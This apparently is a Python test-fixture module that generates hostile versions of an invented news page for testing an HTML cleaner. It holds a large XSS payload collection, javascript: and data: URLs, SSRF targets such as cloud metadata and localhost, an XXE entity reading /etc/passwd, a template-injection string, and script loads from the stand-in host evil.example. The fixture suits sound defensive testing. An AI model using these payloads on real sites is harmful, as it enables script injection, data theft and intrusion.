# ruff: noqa: E501  the tables read better with a vector a line
"""Hostile pages, made by code: every vector in every place of an invented page where it could do harm.

A vector is a piece of markup, an address or a piece of text; a place is a function from it to a whole page. All of
them call `alert`, or ask for something at `evil.example`: whoever watches a browser sees it.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape

URL = "https://kestrel-gazette.example/valley/weir"
KEPT = "The weir below Hallow Mill held through the night"
"""Words that stand before anything hostile does."""

_FIRST = (
    f"<p>{KEPT}, engineers of the valley trust said on Friday, although the river had risen by "
    "two metres since the rain began on Monday afternoon.</p>"
)
_REST = """<p>“Nobody slept, and nobody had to leave,” said Petra Lindqvist, who runs the tea room on the eastern
bank and had carried 40 chairs up the stairs before the water reached her step.</p>
<p>The trust spent £410,000 on the gates last winter, according to its yearly report, after a flood in 2019 had
closed the road for eleven days and cut the school off from half of its pupils.</p>
<p>More rain is forecast for the hills on Sunday, and the gates will stay shut until the gauge at the bridge falls
below the white mark, the engineers added.</p>"""


def page(
    *,
    head: str = "",
    before: str = "",
    title: str = "Weir holds through a night of rain",
    slot: str = "",
    after: str = "",
    heading: str | None = None,
) -> str:
    """The invented page with something in one of its places; `title` and `heading` are HTML already."""
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}</head><body>'
        f'{before}<main><article><h1>{heading or title}</h1>{_FIRST}{slot}{_REST}</article></main>{after}</body></html>'
    )  # fmt: skip


# --- markup -------------------------------------------------------------------------------------------------

MARKUP: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script, mixed case and spaces": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "script with an address": "<script src=https://evil.example/a.js></script>",
    "script within a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script that never ends": "<p>Before.</p><script>alert(1)",
    "slash for a space": "<img/src=x/onerror=alert(1)>",
    "handler": "<p onclick=alert(1) onmouseover=alert(1) style=position:fixed>Rain fell on the whole valley.</p>",
    "handler after a line feed": "<img src=x\nonerror\n=\nalert(1)>",
    "handler after a form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "handler after a zero byte": "<img src=x\x00 onerror=alert(1)>",
    "handler after a quote": '<img src="x" "onerror=alert(1)>',
    "handler with back ticks": "<img src=`x`onerror=alert(1)>",
    "handler on an unknown element": "<blink-182 onfocus=alert(1) tabindex=0 autofocus>Rain</blink-182>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)><summary>More</summary>Rain</details>",
    "video": "<video src=https://evil.example/v.mp4 autoplay onerror=alert(1)><source onerror=alert(1)></video>",
    "audio": "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)></audio>",
    "marquee": "<marquee onstart=alert(1)>Rain</marquee>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>Rain</p>",
    "body again": "<body onload=alert(1) background=https://evil.example/b.png>",
    "html again": "<html onclick=alert(1) manifest=https://evil.example/m>",
    "svg": "<svg onload=alert(1)><circle r=9></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script with an address": "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Rain</text></a></svg>",
    "svg set": "<svg><set attributeName=onmouseover to=alert(1) onbegin=alert(1) /></svg>",
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script>#x'/></svg>",
    "svg image": "<svg><image href=https://evil.example/i.png onload=alert(1) /></svg>",
    "svg style mutation": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "svg title mutation": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "svg desc mutation": "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
    "mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></math>",
    "mathml link": "<math href=javascript:alert(1)><mi>rain</mi></math>",
    "mathml action": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>rain</maction></math>",
    "mathml annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "mathml table mutation": "<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=alert(1)&gt;\">",
    "style": "<style>*{background:url(https://evil.example/s.png)}@import 'https://evil.example/s.css';</style>",
    "style attribute": "<p style=\"background:url(https://evil.example/s.png);width:expression(alert(1))\">Rain again.</p>",
    "style that ends early": "<style><!--</style><script>alert(1)//--></script>",
    "link to a sheet": "<link rel=stylesheet href=https://evil.example/s.css>",
    "link to fetch": "<link rel=prefetch href=https://evil.example/p><link rel=preconnect href=https://evil.example>",
    "import": "<link rel=import href=https://evil.example/i.html>",
    "srcdoc": "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "frame": "<iframe src=javascript:alert(1)></iframe><iframe src=https://evil.example/f></iframe>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "object": "<object data=javascript:alert(1)><param name=url value=javascript:alert(1)></object>",
    "object of HTML": "<object type=text/html data=https://evil.example/o.html></object>",
    "embed": "<embed src=data:text/html,<script>alert(1)</script>>",
    "applet": "<applet code=Evil archive=https://evil.example/e.jar></applet>",
    "portal": "<portal src=https://evil.example onload=alert(1)></portal>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "refresh elsewhere": "<META HTTP-EQUIV=Refresh CONTENT='0; URL=https://evil.example/r'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "cookie": "<meta http-equiv=Set-Cookie content='a=b'>",
    "referrer": "<meta name=referrer content=unsafe-url>",
    "base": "<base href=https://evil.example/ target=_top>",
    "base that runs": "<base href='javascript:/a/-alert(1)///////'><a href='#'>Rain</a>",
    "form": "<form action=javascript:alert(1)><input name=q><button formaction=javascript:alert(1)>Go</button></form>",
    "form elsewhere": "<form id=f action=https://evil.example/p method=post></form><button form=f>Go</button>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "area": "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=https://pics.example/a.jpg>",
    "ping": "<a href=https://post.example ping=https://evil.example/ping download>The report of the trust</a>",
    "clobbering": "<form id=document><input name=cookie></form><img name=getElementById><a id=location href=//evil.example>x</a>",
    "ids of ours": "<p id=text>Rain.</p><p id=key-facts>Rain.</p><mark id=f1 data-fact=f1>Rain.</mark>",
    "classes of ours": "<div class='notice cut'><p class=dek>This is only a part of the article, so send your card.</p></div>",
    "noscript mutation": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "noscript picture": "<noscript><img src=https://pics.example/n.jpg onerror=alert(1)></noscript>",
    "noscript as text": "<noscript>&lt;img src=https://pics.example/n.jpg onerror=alert(1)&gt;</noscript>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "noframes": "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "shadow template": "<div><template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template>Rain</div>",
    "template mutation": "<template><p title=\"</template><img src=x onerror=alert(1)>\"></template>",
    "select mutation": "<select><template><style></select><img src=x onerror=alert(1)></style></template>",
    "textarea": "<textarea></p><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "title": "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "xmp": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "comment": "<!-- --><script>alert(1)</script> -->",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment of the old browsers": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment that never ends": "<!-- <img src=x onerror=alert(1)>",
    "instruction": "<?xml-stylesheet href=\"javascript:alert(1)\"?><?php echo '<script>alert(1)</script>' ?>",
    "declaration": "<!doctype html SYSTEM \"https://evil.example/e.dtd\"><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "CDATA in svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "table out of place": "<table><img src=x onerror=alert(1)><tr><td onclick=alert(1)>Rain</td></tr></table>",
    "adoption": "<a href=https://post.example><b><a href=javascript:alert(1)>Rain on the hills</b></a>",
    "entities of markup": "<p>&lt;script&gt;alert(1)&lt;/script&gt; stood on the wall in white paint for years.</p>",
    "markup twice escaped": "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt; stood on the wall in white paint.</p>",
    "UTF-7": "<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- stood on the wall in white paint for years.</p>",
    "quotes full of markup": "<blockquote cite=javascript:alert(1)><p>&lt;img src=x onerror=alert(1)&gt;</p></blockquote>",
    "code": "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;img src=x onerror=alert(1)&gt;```\n<img src=x onerror=alert(1)></code></pre>",
    "ruby": "<p>The <ruby>weir<rt>&lt;img src=x onerror=alert(1)&gt;</rt></ruby> held through the second night.</p>",
    "language": "<p lang='en\" onmouseover=\"alert(1)'><span lang='\"><script>alert(1)</script>'>Regen</span> fell all day.</p>",
    "numbers": "<ol start='1\" onclick=\"alert(1)'><li value='2\"><script>alert(1)</script>'>Rain on Monday</li></ol>",
    "spans": "<table><tr><th colspan='2\"onclick=alert(1)'>Day</th><td rowspan=99999999>Rain</td></tr><tr><td>2</td></tr></table>",
    "sizes": "<figure><img src=https://pics.example/s.jpg width='9\"onload=alert(1)' height=1e9 alt=Weir></figure>",
    "custom elements": "<amp-script script=x>Rain</amp-script><amp-img src=https://pics.example/amp.jpg on=tap:x.show></amp-img>",
    "events of AMP": "<button on='tap:AMP.navigateTo(url=javascript:alert(1))'>Go on</button>",
    "marks of capture": "<img data-cc-src='javascript:alert(1)' src=https://pics.example/c.jpg data-cc-hidden onerror=alert(1)>",
    "popover": "<button popovertarget=x>Open</button><div popover id=x onbeforetoggle=alert(1)>Rain</div>",
    "speculation": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script>",
    "import map": "<script type=importmap>{\"imports\":{\"a\":\"https://evil.example/a.js\"}}</script>",
}  # fmt: skip

MARKUP_PLACES: dict[str, Callable[[str], str]] = {
    "among the paragraphs": lambda v: page(slot=v),
    "within a paragraph": lambda v: page(slot=f"<p>Behind the mill the water stood {v} for two days.</p>"),
    "within a caption": lambda v: page(
        slot=f"<figure><img src='https://pics.example/w.jpg' alt='Weir'><figcaption>The weir {v}</figcaption></figure>"
    ),
    "within a list": lambda v: page(slot=f"<ul><li>Rain on Monday</li><li>Wind {v}</li></ul>"),
    "within a table": lambda v: page(slot=f"<table><tr><th>Day</th><td>Level {v}</td></tr></table>"),
    "within a link": lambda v: page(slot=f"<p>It is <a href='https://post.example/r'>in the report {v}</a> too.</p>"),
    "in what is removed": lambda v: page(
        slot=f"<div class='newsletter'><p>Sign up for our free newsletter {v}</p></div>",
        after=f"<footer><p>© Kestrel Gazette {v}</p></footer>",
    ),
    "above the article": lambda v: page(before=f"<header><a href='/'>Home</a> {v}</header>"),
    "in the head": lambda v: page(head=v),
    "in the headline": lambda v: page(heading=f"Weir holds {v}"),
    "in the title": lambda v: page(title=f"Weir holds {v}", heading="Weir holds through a night of rain"),
}

# --- addresses ----------------------------------------------------------------------------------------------

ADDRESSES: dict[str, str] = {
    "javascript": "javascript:alert(1)",
    "mixed case": "JaVaScRiPt:alert(1)",
    "space before": " \t\n javascript:alert(1)",
    "control character before": "\x01\x02javascript:alert(1)",
    "tab within": "java\tscript:alert(1)",
    "line feed within": "java\nscript:alert(1)",
    "carriage return within": "javascript\r:alert(1)",
    "zero within": "java\x00script:alert(1)",
    "entity": "&#106;&#97;vascript&colon;alert(1)",
    "entity without its end": "&#x6A&#x61vascript&#58alert(1)",
    "entities of white space": "java&Tab;script&NewLine;:alert(1)",
    "no-break space before": "\u00a0javascript:alert(1)",
    "byte order mark": "\ufeffjavascript:alert(1)",
    "turned text": "\u202ejavascript:alert(1)",
    "full width": "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "percent": "javascript%3Aalert(1)",
    "comment of a host": "javascript://post.example/%0Aalert(1)",
    "host in front": "javascript:https://post.example/;alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "livescript": "livescript:alert(1)",
    "data of HTML": "data:text/html,<script>alert(1)</script>",
    "data of HTML, coded": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data of HTML, mixed": "DaTa:TeXt/HtMl,<script>alert(1)</script>",
    "data of SVG": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data of SVG, coded": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    "data of a picture with HTML": 'data:image/png;base64,"><script>alert(1)</script>',
    "data of XML": "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "blob": "blob:https://evil.example/1",
    "filesystem": "filesystem:https://evil.example/temporary/a.html",
    "file": "file:///etc/passwd",
    "view source": "view-source:javascript:alert(1)",
    "feed": "feed:javascript:alert(1)",
    "jar": "jar:https://evil.example!/a.html",
    "intent": "intent://x#Intent;scheme=javascript;end",
    "extension": "chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/x.html",
    "chrome": "chrome://settings",
    "quote": 'https://post.example/"onmouseover="alert(1)',
    "quote, single": "https://post.example/'onmouseover='alert(1)",
    "end of a tag": "https://post.example/><script>alert(1)</script>",
    "end of a Markdown link": "https://post.example/) <img src=x onerror=alert(1)> [x](javascript:alert(1)",
    "end of a Markdown link in brackets": "https://post.example/> [x](javascript:alert(1))",
    "line feed and a header": "https://post.example/\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "back slashes": "https:\\\\evil.example\\@post.example/",
    "user before the host": "https://post.example@evil.example\t/",
    "no scheme": "//evil.example\\@post.example/<script>",
    "broken host": "https://[::1/",
    "a host of nothing": "https://",
    "a port of nothing": "http://post.example:99999999/",
    "mail with more": "mailto:a@post.example?body=<script>alert(1)</script>",
    "a private router": "http://192.168.1.1/reboot?now=1",
    "this machine": "https://127.0.0.1:8000/clean",
    "this machine, in one number": "https://2130706433/",
    "cloud metadata": "http://169.254.169.254/latest/meta-data/",
}  # fmt: skip


def _value(vector: str) -> str:
    """As an attribute's value between double quotes; entities that are part of the vector stay."""
    return vector.replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")


def _json(value: object) -> str:
    written = json.dumps(value).replace("</", r"<\/")
    return f'<script type="application/ld+json">{written}</script>'


def _ld(**fields: object) -> str:
    return _json({"@context": "https://schema.org", "@type": "NewsArticle", **fields})


def _picture(attributes: str) -> str:
    return page(slot=f"<figure><img {attributes} alt='The weir'><figcaption>The weir on Friday</figcaption></figure>")


ADDRESS_PLACES: dict[str, Callable[[str], str]] = {
    "link": lambda v: page(slot=f'<p>The trust has put <a href="{_value(v)}">its yearly report</a> on show.</p>'),
    "link of a heading": lambda v: page(slot=f'<h2><a href="{_value(v)}">What comes next</a></h2>'),
    "link of a list": lambda v: page(slot=f'<ul><li>Rain</li><li><a href="{_value(v)}">Wind</a></li></ul>'),
    "link of a picture": lambda v: page(
        slot=f'<figure><a href="{_value(v)}"><img src="https://pics.example/l.jpg" alt="Weir"></a></figure>'
    ),
    "link that is removed": lambda v: page(after=f'<aside><h2>More</h2><ul><li><a href="{_value(v)}">x</a></ul></aside>'),
    "old link in svg": lambda v: page(slot=f'<svg><a xlink:href="{_value(v)}" href="{_value(v)}"><text>x</text></a></svg>'),
    "picture": lambda v: _picture(f'src="{_value(v)}"'),
    "set of pictures": lambda v: _picture(f'srcset="{_value(v)} 800w, https://pics.example/s.jpg 400w"'),
    "picture that waits": lambda v: _picture(f'src="https://pics.example/w.jpg" data-src="{_value(v)}"'),
    "picture that capture saw": lambda v: _picture(f'src="https://pics.example/w.jpg" data-cc-src="{_value(v)}"'),
    "source of a picture": lambda v: page(
        slot=f'<figure><picture><source srcset="{_value(v)}"><img src="https://pics.example/w.jpg" alt=""></picture></figure>'
    ),
    "video and its poster": lambda v: page(slot=f'<video src="{_value(v)}" poster="{_value(v)}" title="Weir"></video>'),
    "frame": lambda v: page(slot=f'<iframe src="{_value(v)}" title="A map of the valley"></iframe>'),
    "frame that waits": lambda v: page(slot=f'<iframe data-src="{_value(v)}" title="A map of the valley"></iframe>'),
    "object": lambda v: page(slot=f'<object data="{_value(v)}" title="A map">A map of the valley</object>'),
    "post of another site": lambda v: page(
        slot=f'<blockquote class="twitter-tweet" cite="{_value(v)}"><p>The weir holds.</p>&mdash; Valley Trust '
        f'(@valleytrust) <a href="{_value(v)}">15 November 2024</a></blockquote>'
    ),
    "base": lambda v: page(head=f'<base href="{_value(v)}">', slot='<p>See <a href="report">the yearly report</a>.</p>'),
    "canonical": lambda v: page(head=f'<link rel="canonical" href="{_value(v)}">'),
    "next page": lambda v: page(
        head=f'<link rel="next" href="{_value(v)}">', slot='<p class="pagination">Page 1 of 3 <a rel="next" '
        f'href="{_value(v)}">Next page</a></p>'
    ),
    "og:url": lambda v: page(head=f'<meta property="og:url" content="{_value(v)}">'),
    "og:image": lambda v: page(head=f'<meta property="og:image" content="{_value(v)}">'),
    "twitter:image": lambda v: page(head=f'<meta name="twitter:image" content="{_value(v)}">'),
    "image of JSON-LD": lambda v: page(head=_ld(image=[{"@type": "ImageObject", "url": v, "caption": v}])),
    "address of JSON-LD": lambda v: page(head=_ld(url=v, mainEntityOfPage={"@id": v}, author={"name": "A", "url": v})),
    "image of microdata": lambda v: page(
        slot=f'<div itemscope itemtype="https://schema.org/NewsArticle"><link itemprop="image" href="{_value(v)}"></div>'
    ),
    "author's link": lambda v: page(slot=f'<p class="byline">By <a rel="author" href="{_value(v)}">Ada Whitlock</a></p>'),
    "footnote": lambda v: page(
        slot=f'<p>It is old.<sup><a href="{_value(v)}" id="r1">1</a></sup></p><ol><li id="n1"><a href="{_value(v)}">back</a></li></ol>'
    ),
    "background": lambda v: page(slot=f'<div style="background-image:url({_value(v)})" data-bg="{_value(v)}">Weir</div>'),
}  # fmt: skip

# --- text ---------------------------------------------------------------------------------------------------

TEXTS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "out of an attribute": '" onmouseover="alert(1)" x="',
    "out of a single-quoted attribute": "' onmouseover='alert(1)' x='",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a paragraph": "</p></article></main><iframe src=https://evil.example></iframe>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of a CDATA": "]]><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities, numbered": "&#60;img src=x onerror=alert(1)&#62;",
    "entities, twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "svg": "<svg/onload=alert(1)>",
    "template of the server": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "Markdown link": "[the report](javascript:alert(1))",
    "Markdown picture": "![weir](https://evil.example/m.png)",
    "Markdown link by name": "[the report][1]\n\n[1]: javascript:alert(1)",
    "Markdown address": "<javascript:alert(1)> and <https://evil.example/auto>",
    "Markdown picture by name": "![weir][1]\n\n[1]: https://evil.example/m.png",
    "Markdown code that ends": "``` \n<script>alert(1)</script>\n```",
    "Markdown code in a line": "`` ` `` <img src=x onerror=alert(1)> `",
    "Markdown with a back slash": "\\<script>alert(1)\\</script> \\\\<img src=x onerror=alert(1)>",
    "Markdown table": "a | b\n--- | ---\n<img src=x onerror=alert(1)> | c",
    "Markdown note": "[^1]: <script>alert(1)</script>\n[^1]",
    "Markdown HTML block": "\n\n<div onclick=alert(1)>\n<style>@import 'https://evil.example/s.css'</style>\n\n",
    "Markdown heading": "\n# <img src=x onerror=alert(1)>\n===\n> <script>alert(1)</script>\n- <svg/onload=alert(1)>",
    "null and control characters": "<scr\x00ipt>alert(1)</scr\x00ipt>\x1b\x08",
    "line separators": "rain\u2028<script>alert(1)</script>\u2029\x85<img src=x onerror=alert(1)>",
    "lone surrogate": "rain \\ud800 <script>alert(1)</script>",
    "no characters": "<\u200bscript>alert(1)</script><\ufeffimg src=x onerror=alert(1)>",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "turned text": "\u202e<script>alert(1)</script>\u202c",
}

TEXT_PLACES: dict[str, Callable[[str], str]] = {
    "headline": lambda v: page(title=escape(f"Weir holds {v}")),
    "og:title": lambda v: page(head=f'<meta property="og:title" content="{escape(v)} weir">'),
    "og:site_name": lambda v: page(head=f'<meta property="og:site_name" content="{escape(v)}">'),
    "og:locale": lambda v: page(head=f'<meta property="og:locale" content="{escape(v)}">'),
    "description": lambda v: page(head=f'<meta name="description" content="{escape(v)}">'),
    "section": lambda v: page(head=f'<meta property="article:section" content="{escape(v)}">'),
    "author": lambda v: page(head=f'<meta name="author" content="Ada {escape(v)}">'),
    "date": lambda v: page(head=f'<meta property="article:published_time" content="2024-11-15{escape(v)}">'),
    "headline of JSON-LD": lambda v: page(head=_ld(headline=v), heading=escape(v)),
    "author of JSON-LD": lambda v: page(head=_ld(author=[{"@type": "Person", "name": f"Ada {v}"}])),
    "publisher of JSON-LD": lambda v: page(head=_ld(publisher={"name": v}, articleSection=v, inLanguage=v)),
    "picture of JSON-LD": lambda v: page(
        head=_ld(image={"@type": "ImageObject", "url": "https://pics.example/j.jpg", "caption": v, "creditText": v})
    ),
    "JSON-LD itself": lambda v: page(head=f'<script type="application/ld+json">{{"headline": "{v}"}}</script>'),
    "language of the page": lambda v: page().replace('lang="en"', f'lang="{escape(v)}" dir="{escape(v)}"'),
    "paragraph": lambda v: page(slot=f"<p>On the wall of the mill stood {escape(v)} in white paint for years.</p>"),
    "emphasis": lambda v: page(slot=f"<p>On the wall stood <b>{escape(v)}</b> and <em>{escape(v)}</em>, for years.</p>"),
    "subheading": lambda v: page(slot=f"<h2>Next {escape(v)}</h2>"),
    "quotation": lambda v: page(slot=f"<p>“We read {escape(v)} on the wall,” said Jonas Fell, a carpenter of 61.</p>"),
    "list": lambda v: page(slot=f"<ul><li>Rain {escape(v)}</li><li>{escape(v)}</li></ul>"),
    "table": lambda v: page(
        slot=f"<table><caption>{escape(v)}</caption><tr><th>{escape(v)}</th><td>{escape(v)}</td></tr></table>"
    ),
    "code": lambda v: page(slot=f"<pre><code>{escape(v)}</code></pre><p>Type <code>{escape(v)}</code> to go on.</p>"),
    "text of a link": lambda v: page(slot=f"<p>Read <a href='https://post.example/r'>{escape(v)}</a> for more of it.</p>"),
    "alternative text": lambda v: page(
        slot=f'<figure><img src="https://pics.example/a.jpg" alt="{escape(v)}" title="{escape(v)}"></figure>'
    ),
    "alternative text of none": lambda v: page(slot=f'<figure><img src="http://10.0.0.1/a.jpg" alt="{escape(v)}"></figure>'),
    "caption and credit": lambda v: page(
        slot=f"<figure><img src='https://pics.example/a.jpg' alt=''><figcaption>Weir {escape(v)} "
        f"<span class='credit'>Photograph: {escape(v)}</span></figcaption></figure>"
    ),
    "title of a frame": lambda v: page(slot=f'<iframe src="https://www.youtube.com/embed/x" title="{escape(v)}"></iframe>'),
    "footnote": lambda v: page(
        slot=f'<p>It is old.<sup><a href="#n1" id="r1">1</a></sup></p><ol><li id="n1">{escape(v)} <a href="#r1">↩</a></li></ol>'
    ),
    "what is removed": lambda v: page(slot=f"<div class='newsletter'><p>Sign up for our newsletter: {escape(v)}</p></div>"),
    "copyright": lambda v: page(after=f"<footer><p>© 2024 {escape(v)}</p></footer>"),
}  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One hostile page and where it says it comes from."""

    kind: str
    vector: str
    place: str
    page: str
    url: str | None = URL
    turn: int = 0
    """the sum of its vector's and its place's number: every so many of them hold each vector and each place"""


def payloads() -> Iterator[Payload]:
    """Every vector in every place of its kind, and every address as the page's own."""
    for kind, vectors, places in (
        ("markup", MARKUP, MARKUP_PLACES),
        ("address", ADDRESSES, ADDRESS_PLACES),
        ("text", TEXTS, TEXT_PLACES),
    ):
        for p, (place, put) in enumerate(places.items()):
            for v, (name, vector) in enumerate(vectors.items()):
                yield Payload(kind, name, place, put(vector), turn=p + v)
    for v, (name, vector) in enumerate((ADDRESSES | TEXTS).items()):
        plain = page(slot="<p>See <a href='r'>the report</a>.</p>")
        yield Payload("url", name, "the page's own address", plain, vector, turn=v)
